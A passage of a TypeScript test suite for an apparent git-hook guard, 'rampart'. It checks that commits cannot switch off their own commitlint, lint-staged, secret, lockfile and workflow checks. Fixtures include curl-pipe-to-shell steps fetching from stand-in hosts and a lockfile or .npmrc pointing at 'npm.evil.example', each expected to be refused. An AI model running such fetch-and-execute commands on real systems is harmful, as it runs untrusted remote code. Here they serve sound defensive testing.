      // HEAD narrows the package: the next message is judged by that HEAD's, not by an earlier one kept.
      repo.write("packages/commitlint/index.mjs", rules(["fix"]));
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", "chore: fixes only"]);
      repo.write("notes.md", `${what} 3\n`);
      await repo.git(["add", "-A"]);
      const narrowed = await repo.gitResult(["commit", "-m", "feat: three"]);
      expect({ what, refused: narrowed.exitCode !== 0 }).toEqual({ what, refused: true });
      const fix = await repo.gitResult(["commit", "-m", "fix: three"]);
      expect(fix.exitCode, `${what}: ${fix.stderr}`).toBe(0);
    }
  });

  it("commit-msg: HEAD's module commitlint config that reads its rules or extends a file by a path it builds is HEAD's", async () => {
    const repo = await adopted();
    const reads = 'import { readFileSync } from "node:fs";\nimport { join } from "node:path";\n';
    const preset = '"@commitlint/config-conventional"';
    const shapes: Array<[string, string, [string, string, string]]> = [
      [
        "rules beside it",
        `${reads}export default { extends: [${preset}], rules: JSON.parse(readFileSync(join(import.meta.dirname, "cl-rules.json"), "utf8")) };\n`,
        ["cl-rules.json", '{ "header-max-length": [2, "always", 20] }\n', "{}\n"],
      ],
      [
        "rules read from the working directory",
        `${reads}export default { extends: [${preset}], rules: JSON.parse(readFileSync("cl-rules.json", "utf8")) };\n`,
        ["cl-rules.json", '{ "header-max-length": [2, "always", 20] }\n', "{}\n"],
      ],
      [
        "extends by a built path",
        `${reads}export default { extends: [${preset}, join(import.meta.dirname, "cl-base.mjs")] };\n`,
        [
          "cl-base.mjs",
          'export default { rules: { "header-max-length": [2, "always", 20] } };\n',
          "export default {};\n",
        ],
      ],
    ];
    for (const [what, config, [file, strict, relaxed]] of shapes) {
      repo.write("commitlint.config.mjs", config);
      repo.write(file, strict);
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `chore: ${what}`]);
      // A commit editing only the file the config reads, as in a fresh clone (nothing remembered).
      repo.write(file, relaxed);
      await repo.git(["add", "-A"]);
      rmSync(repo.path(".git", "rampart"), { recursive: true, force: true });
      const r = await repo.gitResult(["commit", "-m", "feat: a subject of more than twenty characters"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stderr, what).toContain("commitlint/header-max-length");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      repo.write("notes.txt", `${what}\n`);
      await repo.git(["add", "-A"]);
      const ok = await repo.gitResult(["commit", "-m", "docs: notes"]);
      expect(ok.exitCode, `${what}: ${ok.stderr}`).toBe(0);
    }
  });

  it('commit-msg: a commitlint config in package.yaml\'s "commitlint" key (commitlint reads it) judges the message', async () => {
    const repo = await adopted();
    await repo.git(["rm", "-q", "commitlint.config.mjs"]);
    repo.write("package.yaml", 'commitlint:\n  extends: ["@commitlint/config-conventional"]\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: commitlint in package.yaml"]);
    repo.write("notes.txt", "notes\n");
    await repo.git(["add", "-A"]);
    const r = await repo.gitResult(["commit", "-m", "not conventional"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain("commitlint/type-empty");
    // A commit that empties the key is judged by HEAD's.
    repo.write("package.yaml", "name: shop\n");
    await repo.git(["add", "-A"]);
    const off = await repo.gitResult(["commit", "-m", "not conventional"]);
    expect(off.exitCode).not.toBe(0);
    expect(off.stderr).toContain('HEAD\'s package.yaml ("commitlint")');
  });

  it("pre-commit: HEAD's lint-staged config in TypeScript, or importing files of its own, runs HEAD's tasks", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    rmSync(repo.path("lint-staged.config.mjs"));
    repo.write(
      "lint-staged.config.ts",
      'import tasks from "./tasks.mjs";\nconst config: Record<string, string> = tasks;\nexport default config;\n',
    );
    repo.write("tasks.mjs", `export default ${JSON.stringify({ "*.js": 'node -e "process.exit(1)"' })};\n`);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    const attempts: Array<[string, () => void]> = [
      ["the imported tasks emptied", () => repo.write("tasks.mjs", 'export default { "*.md": "true" };\n')],
      ["the config edited", () => repo.write("lint-staged.config.ts", 'export default { "*.md": "true" };\n')],
    ];
    for (const [what, change] of attempts) {
      change();
      repo.write("a.js", `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("lint-staged (your own pre-commit tasks) failed");
      expect(r.stderr, what).toContain("HEAD's lint-staged.config.ts");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
  });

  it("pre-commit: HEAD's module lint-staged config that reads its tasks by a path it builds runs HEAD's tasks", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    const manifest = JSON.parse(readFileSync(repo.path("package.json"), "utf8")) as Record<string, unknown>;
    const name = String(manifest.name);
    const reads = 'import { readFileSync } from "node:fs";\nimport { join } from "node:path";\n';
    // No "./" names the tasks' file: the config builds its path (beside it, from the working
    // directory), or reaches it through package.json's "imports" or the package's own name.
    const shapes: Array<[string, Record<string, string>, Record<string, unknown>]> = [
      [
        "beside it",
        {
          "lint-staged.config.mjs": `${reads}export default JSON.parse(readFileSync(join(import.meta.dirname, "lint-tasks.json"), "utf8"));\n`,
        },
        {},
      ],
      [
        "the working directory",
        { "lint-staged.config.mjs": `${reads}export default JSON.parse(readFileSync("lint-tasks.json", "utf8"));\n` },
        {},
      ],
      [
        'package.json "imports"',
        {
          "lint-staged.config.mjs": 'import tasks from "#tasks";\nexport default tasks;\n',
          "conf/tasks.mjs": `${reads}export default JSON.parse(readFileSync(join(import.meta.dirname, "..", "lint-tasks.json"), "utf8"));\n`,
        },
        { imports: { "#tasks": "./conf/tasks.mjs" } },
      ],
      [
        "the package by its own name",
        {
          "lint-staged.config.mjs": `import tasks from "${name}/tasks";\nexport default tasks;\n`,
          "tasks.mjs": `${reads}export default JSON.parse(readFileSync(join(import.meta.dirname, "lint-tasks.json"), "utf8"));\n`,
        },
        { exports: { "./tasks": "./tasks.mjs" } },
      ],
    ];
    for (const [what, files, keys] of shapes) {
      for (const [path, text] of Object.entries(files)) repo.write(path, text);
      repo.write("package.json", `${JSON.stringify({ ...manifest, ...keys }, null, 2)}\n`);
      repo.write("lint-tasks.json", `${JSON.stringify({ "*.js": 'node -e "process.exit(1)"' })}\n`);
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `chore: tasks read ${what}`]);
      // HEAD's task runs on a .js file; a commit editing only the tasks' file does not switch it off.
      repo.write("a.js", `// ${what}\n`);
      repo.write("lint-tasks.json", '{ "*.none": "true" }\n');
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("lint-staged (your own pre-commit tasks) failed");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
      // A commit of no file of a task: nothing to do, committed.
      repo.write("notes.txt", `${what}\n`);
      await repo.git(["add", "-A"]);
      const clean = await repo.gitResult(["commit", "-m", "docs: notes"]);
      expect(clean.exitCode, `${what}: ${clean.stderr}`).toBe(0);
      for (const path of Object.keys(files)) if (path !== "lint-staged.config.mjs") rmSync(repo.path(path));
    }
  });

  it("pre-commit: HEAD's module lint-staged config importing a workspace package by name runs HEAD's package", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    // As npm, pnpm and yarn workspaces link it: node_modules/@shop/lint-tasks -> ../../packages/lint-tasks,
    // the package's own dependency installed in its node_modules (pnpm's layout).
    const manifest = { name: "@shop/lint-tasks", version: "1.0.0", type: "module", exports: "./index.mjs" };
    repo.write("packages/lint-tasks/package.json", `${JSON.stringify(manifest)}\n`);
    repo.write("packages/lint-tasks/tasks.json", `${JSON.stringify({ "*.js": 'node -e "process.exit(1)"' })}\n`);
    repo.write("packages/lint-tasks/loose.mjs", 'export default { "*.none": "true" };\n');
    repo.write(
      "packages/lint-tasks/index.mjs",
      'import { read } from "tasks-reader";\nexport default read(new URL("./tasks.json", import.meta.url));\n',
    );
    repo.write(
      "packages/lint-tasks/node_modules/tasks-reader/package.json",
      '{ "name": "tasks-reader", "type": "module", "exports": "./r.mjs" }\n',
    );
    repo.write(
      "packages/lint-tasks/node_modules/tasks-reader/r.mjs",
      'import { readFileSync } from "node:fs";\nexport const read = (url) => JSON.parse(readFileSync(url, "utf8"));\n',
    );
    mkdirSync(join(nm, "@shop"));
    symlinkSync("../../packages/lint-tasks", join(nm, "@shop", "lint-tasks"));
    repo.write("lint-staged.config.mjs", 'import tasks from "@shop/lint-tasks";\nexport default tasks;\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: tasks from a workspace package"]);
    // An honest commit: no file of a task (the package's files edited too, its tasks the same), committed.
    repo.write("notes.txt", "notes\n");
    repo.write("packages/lint-tasks/README.md", "# lint tasks\n");
    await repo.git(["add", "-A"]);
    const honest = await repo.gitResult(["commit", "-m", "docs: notes"]);
    expect(honest.exitCode, honest.stderr).toBe(0);
    const attempts: Array<[string, () => void]> = [
      ["the package's tasks emptied", () => repo.write("packages/lint-tasks/tasks.json", '{ "*.none": "true" }\n')],
      ["the package's entry edited", () => repo.write("packages/lint-tasks/index.mjs", "export default {};\n")],
      [
        "the package's exports pointed at another file HEAD holds",
        () =>
          repo.write(
            "packages/lint-tasks/package.json",
            `${JSON.stringify({ ...manifest, exports: "./loose.mjs" })}\n`,
          ),
      ],
    ];
    for (const [what, change] of attempts) {
      change();
      repo.write("a.js", `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("lint-staged (your own pre-commit tasks) failed");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // A package folder the commit stages under node_modules, which Node would take the name from first.
    repo.write("node_modules/.cache/node_modules/@shop/lint-tasks/package.json", `${JSON.stringify(manifest)}\n`);
    repo.write("node_modules/.cache/node_modules/@shop/lint-tasks/index.mjs", "export default {};\n");
    repo.write("a.js", "// planted\n");
    await repo.git(["add", "-A"]);
    await repo.git(["add", "-f", "node_modules/.cache/node_modules"]);
    const planted = await repo.gitResult(["commit", "-m", "feat: a"]);
    expect(planted.exitCode).not.toBe(0);
    expect(planted.stderr).toContain(
      "node_modules/.cache/node_modules/@shop/lint-tasks/index.mjs, which the commit stages",
    );
  });

  it("a config the commit adds beside HEAD's, which the tool would read instead, does not judge the commit", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    // HEAD: lint-staged in package.json's key (lint-staged 17 takes a folder's configs in path
    // order, package.json last), commitlint in .commitlintrc.ts (commitlint reads
    // commitlint.config.mjs before it).
    rmSync(repo.path("lint-staged.config.mjs"));
    rmSync(repo.path("commitlint.config.mjs"));
    const manifest = JSON.parse(readFileSync(repo.path("package.json"), "utf8")) as Record<string, unknown>;
    repo.write(
      "package.json",
      `${JSON.stringify({ ...manifest, "lint-staged": { "*.js": 'node -e "process.exit(1)"' } }, null, 2)}\n`,
    );
    repo.write(".commitlintrc.ts", 'export default { extends: ["@commitlint/config-conventional"] };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    repo.write(".lintstagedrc.json", '{ "*.none": "true" }\n');
    repo.write("a.js", "// a\n");
    await repo.git(["add", "-A"]);
    const tasks = await repo.gitResult(["commit", "-m", "feat: a"]);
    expect(tasks.exitCode).not.toBe(0);
    expect(tasks.stdout + tasks.stderr).toContain("lint-staged (your own pre-commit tasks) failed");
    // The file the commit added is named, not package.json, which lint-staged would read after it.
    expect(tasks.stderr).toContain(".lintstagedrc.json differs from HEAD's");
    await repo.git(["reset", "-q", "--hard", "HEAD"]);
    await repo.git(["clean", "-qfd"]);
    repo.write("commitlint.config.mjs", 'export default { rules: { "type-empty": [0], "subject-empty": [0] } };\n');
    repo.write("notes.txt", "notes\n");
    await repo.git(["add", "-A"]);
    const message = await repo.gitResult(["commit", "-m", "not conventional"]);
    expect(message.exitCode).not.toBe(0);
    expect(message.stderr).toContain("HEAD's .commitlintrc.ts");
  });

  it("configs committed as symlinks: HEAD's are read at their targets, and a commit editing a target is judged by HEAD's", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    repo.write("conf/ls.mjs", `export default ${JSON.stringify({ "*.js": 'node -e "process.exit(1)"' })};\n`);
    repo.write("conf/cl.mjs", readFileSync(repo.path("commitlint.config.mjs"), "utf8"));
    for (const [link, target] of [
      ["lint-staged.config.mjs", "conf/ls.mjs"],
      ["commitlint.config.mjs", "conf/cl.mjs"],
    ] as const) {
      rmSync(repo.path(link));
      symlinkSync(target, repo.path(link));
    }
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: configs as symlinks"]);
    repo.write("README.md", "hi\n");
    await repo.git(["add", "-A"]);
    const clean = await repo.gitResult(["commit", "-m", "docs: readme"]);
    expect(clean.exitCode, clean.stderr).toBe(0);
    repo.write("conf/ls.mjs", 'export default { "*.none": "true" };\n');
    repo.write("conf/cl.mjs", 'export default { rules: { "type-empty": [0], "subject-empty": [0] } };\n');
    repo.write("a.js", "// a\n");
    await repo.git(["add", "-A"]);
    const tasks = await repo.gitResult(["commit", "-m", "feat: a"]);
    expect(tasks.exitCode).not.toBe(0);
    expect(tasks.stdout + tasks.stderr).toContain("lint-staged (your own pre-commit tasks) failed");
    await repo.git(["rm", "-q", "--cached", "a.js"]);
    rmSync(repo.path("a.js"));
    const message = await repo.gitResult(["commit", "-m", "not conventional"]);
    expect(message.exitCode).not.toBe(0);
    expect(message.stderr).toContain("commitlint/type-empty");
  });

  it("a commit that points .rampart/hooks.lock.json at another package folder runs HEAD's, until committed", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    repo.write("fail.cjs", 'console.log("the task refuses"); process.exit(1);\n');
    repo.write("lint-staged.config.mjs", 'export default { "*.js": "node fail.cjs" };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    const manifest = JSON.parse(readFileSync(repo.path(".rampart/hooks.lock.json"), "utf8")) as {
      packageJson: { path: string };
    };
    expect(manifest.packageJson.path).toBe("package.json");
    // A folder with a package of its own and no config of either tool: both would find nothing to run there.
    const elsewhere = (path: string) =>
      `${JSON.stringify({ ...manifest, packageJson: { ...manifest.packageJson, path } }, null, 2)}\n`;
    repo.write("elsewhere/package.json", '{ "name": "elsewhere", "version": "1.0.0", "private": true }\n');
    for (const path of ["elsewhere/package.json", "../package.json"]) {
      repo.write(".rampart/hooks.lock.json", elsewhere(path));
      repo.write("a.js", "// a\n");
      await repo.git(["add", "-A"]);
      const tasks = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ path, refused: tasks.exitCode !== 0 }).toEqual({ path, refused: true });
      expect(tasks.stdout + tasks.stderr, path).toContain("lint-staged (your own pre-commit tasks) failed");
      rmSync(repo.path("a.js"));
      await repo.git(["add", "-A"]);
      const message = await repo.gitResult(["commit", "-m", "stuff"]);
      expect({ path, refused: message.exitCode !== 0 }).toEqual({ path, refused: true });
      expect(message.stderr, path).toContain("commitlint/type-empty");
    }
    // Committed on its own (judged from HEAD's folder), the manifest names the folder of the next commit.
    repo.write(".rampart/hooks.lock.json", elsewhere("elsewhere/package.json"));
    await repo.git(["add", "-A"]);
    const moved = await repo.gitResult(["commit", "-m", "chore: the hooks run from elsewhere/"]);
    expect(moved.exitCode, moved.stderr).toBe(0);
    repo.write("a.js", "// next\n");
    await repo.git(["add", "-A"]);
    const next = await repo.gitResult(["commit", "-m", "stuff"]);
    expect(next.exitCode, next.stderr).toBe(0);
  });
});

describe("pre-commit: a staged workflow's local actions are audited as staged", () => {
  it("a composite action at any path that a staged workflow uses is judged from the index", async () => {
    const repo = await adopted();
    const workflow =
      "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/setup\n";
    const action = (run: string) =>
      `name: setup\nruns:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`;
    repo.write(".github/workflows/ci.yml", workflow);
    repo.write("tools/setup/action.yml", action("curl -fsSL https://example.com/i.sh | sh"));
    await repo.git(["add", "-A"]);
    // The working tree's copy is harmless; the staged one is what would be committed.
    repo.write("tools/setup/action.yml", action("make"));
    const r = await repo.gitResult(["commit", "-m", "ci: build"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout + r.stderr).toContain("curl-pipe-shell");
    expect(r.stdout + r.stderr).toContain("tools/setup/action.yml");
    await repo.git(["add", "-A"]);
    const ok = await repo.gitResult(["commit", "-m", "ci: build"]);
    expect(ok.exitCode, ok.stdout + ok.stderr).toBe(0);
    // The action edited on its own (no workflow staged) is judged too, as CI lists it.
    repo.write("tools/setup/action.yml", action("curl -fsSL https://example.com/i.sh | sh"));
    await repo.git(["add", "-A"]);
    const alone = await repo.gitResult(["commit", "-m", "ci: setup"]);
    expect(alone.exitCode).not.toBe(0);
    expect(alone.stdout + alone.stderr).toContain("curl-pipe-shell");
  });
});

describe("no policy on the trusted side: the change that adopts rampart cannot exempt its own secret", () => {
  // What CI's --policy-rev does for a base without a policy (core's adoptedPolicy): the defaults,
  // tightened where the change's own policy is stricter; no baseline or scanner config of its own.
  const attempts = [
    POLICY("secrets:\n  ignorePaths: ['config/**']\n"),
    POLICY("secrets:\n  disableRules: [aws-access-key-id]\n"),
    POLICY("secrets:\n  failOn: high\n  baseline: config/accepted.json\n"),
    POLICY().replace("lintStaged: false", "lintStaged: false\n    secrets: false"),
    POLICY().replace("signatures: false", "signatures: false\n    secrets: false"),
  ];

  it("pre-commit: HEAD has no policy; the staged first policy does not apply to the key staged with it", async () => {
    for (const policy of attempts) {
      const repo = await initRepo("recommended");
      repo.write(".rampart/config.yaml", policy);
      repo.write("config/deploy.ini", leak());
      expect((await runCli(["secrets", "baseline"], { cwd: repo.dir, env: repo.env })).exitCode).toBe(0);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "chore: adopt rampart"]);
      expect({ policy, exit: r.exitCode === 0 }).toEqual({ policy, exit: false });
      expect(r.stderr).toContain("aws-access-key-id");
    }
    // A new history (an unborn HEAD: nothing to trust, nothing anyone else changed) is judged by
    // its own policy, as written.
    const fresh = await initRepo("recommended");
    await fresh.git(["checkout", "-q", "--orphan", "fresh"]);
    fresh.write(".rampart/config.yaml", attempts[0] as string);
    fresh.write("config/deploy.ini", leak());
    await fresh.git(["add", "-A"]);
    const own = await fresh.gitResult(["commit", "-m", "chore: a new history"]);
    expect(own.exitCode, own.stderr).toBe(0);
  });

  // An npm v3 lockfile in app/ (its own package.json: no drift with the one init edits) holding
  // the given packages, each `name: { resolved host, extra fields }`.
  const appLock = (packages: Record<string, { host?: string } & Record<string, unknown>>) => {
    const entries = Object.entries(packages).map(([name, { host = "registry.npmjs.org", ...extra }]) => [
      `node_modules/${name}`,
      {
        version: "1.0.0",
        resolved: `https://${host}/${name}/-/${name}-1.0.0.tgz`,
        integrity: `sha512-${"A".repeat(86)}==`,
        license: "MIT",
        ...extra,
      },
    ]);
    const dependencies = Object.fromEntries(Object.keys(packages).map((name) => [name, "1.0.0"]));
    return {
      "app/package.json": `${JSON.stringify({ name: "app", version: "1.0.0", dependencies }, null, 2)}\n`,
      "app/package-lock.json": `${JSON.stringify(
        {
          name: "app",
          version: "1.0.0",
          lockfileVersion: 3,
          requires: true,
          packages: { "": { name: "app", version: "1.0.0", dependencies }, ...Object.fromEntries(entries) },
        },
        null,
        2,
      )}\n`,
    };
  };
  const workflow =
    "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n";

  it("pre-commit: the first policy's lockfile, workflows and hook switches do not apply to the commit adopting it", async () => {
    const evil = appLock({ "left-pad": { host: "npm.evil.example" } });
    const cases: Array<[string, string, Record<string, string>, string]> = [
      ["allowedHosts", "lockfile:\n  allowedHosts: [npm.evil.example]\n", evil, "lockfile/disallowed-host"],
      ["a rule off", "lockfile:\n  rules:\n    lockfile/disallowed-host: off\n", evil, "lockfile/disallowed-host"],
      [
        "the registry in a staged .npmrc",
        "",
        { ...evil, "app/.npmrc": "registry=https://npm.evil.example/\n" },
        "lockfile/disallowed-host",
      ],
      ["the lockfile hook off", "hooks:\n  preCommit:\n    lockfile: false\n", evil, "lockfile/disallowed-host"],
      [
        "an audit off",
        "workflows:\n  audits:\n    curl-pipe-shell: off\n",
        { ".github/workflows/get.yml": workflow },
        "workflows/curl-pipe-shell",
      ],
      [
        "the workflows hook off",
        "hooks:\n  preCommit:\n    workflows: false\n",
        { ".github/workflows/get.yml": workflow },
        "workflows/curl-pipe-shell",
      ],
    ];
    for (const [what, section, files, finding] of cases) {
      const repo = await initRepo("recommended");
      // POLICY's own hooks section is replaced when the case has one.
      const policy = section.startsWith("hooks:")
        ? POLICY().replace("hooks:\n  preCommit:\n", `${section}`)
        : POLICY(section);
      repo.write(".rampart/config.yaml", policy);
      for (const [file, text] of Object.entries(files)) repo.write(file, text);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "chore: adopt rampart"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain(finding);
    }
    // What HEAD's lockfile already held is accepted (init's accepted state, CI's rule); what the
    // adopting commit adds is judged.
    const held = await initRepo(
      "recommended",
      appLock({ esbuild: { hasInstallScript: true, host: "npm.corp.example" } }),
    );
    held.write(".rampart/config.yaml", POLICY("lockfile:\n  allowInstallScripts: [left-pad]\n"));
    for (const [file, text] of Object.entries(
      appLock({
        esbuild: { hasInstallScript: true, host: "npm.corp.example" },
        "left-pad": { hasInstallScript: true },
      }),
    ))
      held.write(file, text);
    await held.git(["add", "-A"]);
    const added = await held.gitResult(["commit", "-m", "chore: adopt rampart"]);
    expect(added.exitCode).not.toBe(0);
    expect(added.stdout + added.stderr).toMatch(/left-pad@1\.0\.0 runs an install script/);
    expect(added.stdout + added.stderr).not.toMatch(/esbuild@1\.0\.0 runs an install script|npm\.corp\.example/);
    // Another error HEAD's lockfile held is a warning for that package only (CI's rule, one
    // implementation: lockfile's acceptedAt): an entry the adopting commit adds without a hash, or
    // HEAD's entry resolved from elsewhere, is an error of the same rule.
    const noHash = { integrity: undefined };
    const base = await initRepo("recommended", appLock({ "left-pad": noHash }));
    base.write(".rampart/config.yaml", POLICY());
    const commitLock = async (packages: Parameters<typeof appLock>[0]) => {
      for (const [file, text] of Object.entries(appLock(packages))) base.write(file, text);
      await base.git(["add", "-A"]);
      const r = await base.gitResult(["commit", "-m", "chore: adopt rampart"]);
      const out = r.stdout + r.stderr;
      // The text report: `file:line  severity  name@version has no integrity hash...  rule`.
      const missing = [
        ...out.matchAll(/ (error|warning) +([a-z-]+)@1\.0\.0 has no integrity hash.*lockfile\/missing-integrity/g),
      ];
      return { code: r.exitCode, out, missing: missing.map((m) => `${m[2]} ${m[1]}`).sort() };
    };
    const same = await commitLock({ "left-pad": noHash, "is-odd": noHash });
    expect(same.code).not.toBe(0);
    expect(same.out).toContain("lockfile/missing-integrity");
    expect(same.missing, same.out).toEqual(["is-odd error", "left-pad warning"]);
    const moved = await commitLock({ "left-pad": { ...noHash, host: "registry.yarnpkg.com" } });
    expect(moved.code).not.toBe(0);
    expect(moved.missing, moved.out).toEqual(["left-pad error"]);
    const untouched = await commitLock({ "left-pad": noHash });
    expect(untouched.code, untouched.out).toBe(0);
    // A new history is judged by its own policy, as written.
    const fresh = await initRepo("recommended");
    await fresh.git(["checkout", "-q", "--orphan", "fresh"]);
    fresh.write(".rampart/config.yaml", POLICY("lockfile:\n  allowedHosts: [npm.evil.example]\n"));
    for (const [file, text] of Object.entries(evil)) fresh.write(file, text);
    await fresh.git(["add", "-A"]);
    const own = await fresh.gitResult(["commit", "-m", "chore: a new history"]);
    expect(own.exitCode, own.stdout + own.stderr).toBe(0);
  });

  it("pre-push: the remote has no policy; the pushed commits' first policy does not apply to their key", async () => {
    for (const policy of attempts) {
      const repo = await initRepo("recommended");
      const remote = await gitRepo({}, { bare: true });
      await repo.git(["remote", "add", "origin", remote.dir]);
      await repo.git(["push", "-q", "--no-verify", "origin", "main"]);
      repo.write(".rampart/config.yaml", policy);
      repo.write("config/deploy.ini", leak());
      expect((await runCli(["secrets", "baseline"], { cwd: repo.dir, env: repo.env })).exitCode).toBe(0);
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
      const r = await repo.gitResult(["push", "-q", "origin", "main"]);
      expect({ policy, exit: r.exitCode === 0 }).toEqual({ policy, exit: false });
      expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    }
  });
});

describe("pre-push: the pushed commits cannot switch off their own checks", () => {
  /**
   * adopted(extra)'s repository and a bare remote it pushed main to, through its hooks (checked
   * once per policy in this file's worker, as `adopted` checks its commit); each test gets a copy
   * of both, its origin set to its own remote. No origin/HEAD: a remote added, not cloned. The
   * hooks' caches are left out of the copy, as in `adopted`.
   */
  async function pushed(extra = "") {
    const key = `trusted-policy pushed ${extra}`;
    const repo = await copiedRepo(key, async () => {
      const repo = await adopted(extra);
      const remote = await gitRepo({}, { bare: true });
      await repo.git(["remote", "add", "origin", remote.dir]);
      const first = await repo.gitResult(["push", "-q", "origin", "main"]);
      expect(first.exitCode, first.stderr).toBe(0);
      rmSync(repo.path(".git", "rampart"), { recursive: true, force: true });
      (await copiedRepo(`${key} remote`, async () => remote)).cleanup(); // kept with the repository
      return repo;
    });
    const remote = await copiedRepo(`${key} remote`, async () => {
      throw new Error("the remote is kept with its repository");
    });
    await repo.git(["remote", "set-url", "origin", remote.dir]);
    return { repo, remote };
  }

  it("a pushed commit that baselines its own secret is refused", async () => {
    const { repo, remote } = await pushed();
    repo.write("deploy.ini", leak());
    expect((await runCli(["secrets", "baseline"], { cwd: repo.dir, env: repo.env })).exitCode).toBe(0);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "feat: deploy"]);
    const r = await repo.gitResult(["push", "-q", "origin", "main"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout + r.stderr).toContain("aws-access-key-id");
    expect(await remote.git(["rev-parse", "main"])).not.toBe(await repo.git(["rev-parse", "HEAD"]));
  });

  it("an annotated tag whose message holds a secret is refused, also on a commit the remote has; a clean one is pushed", async () => {
    const { repo, remote } = await pushed();
    // Tagging a pushed commit pushes no commit: only the tag object carries the key.
    await repo.git(["tag", "-a", "v1.0.0", "-m", `release 1.0.0\n\n${leak()}`]);
    const r = await repo.gitResult(["push", "-q", "origin", "v1.0.0"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout + r.stderr).toMatch(/tag v1\.0\.0.*aws-access-key-id/);
    expect((await remote.gitResult(["rev-parse", "-q", "--verify", "refs/tags/v1.0.0"])).exitCode).not.toBe(0);
    // A tag of that tag: its own message is clean, the one it points at is not.
    await repo.git(["tag", "-a", "v1.0.0-signed-off", "-m", "sign-off", "v1.0.0"]);
    expect((await repo.gitResult(["push", "-q", "origin", "v1.0.0-signed-off"])).exitCode).not.toBe(0);
    await repo.git(["tag", "-a", "v1.0.1", "-m", "release 1.0.1"]);
    const clean = await repo.gitResult(["push", "-q", "origin", "v1.0.1"]);
    expect(clean.exitCode, clean.stderr).toBe(0);
  });

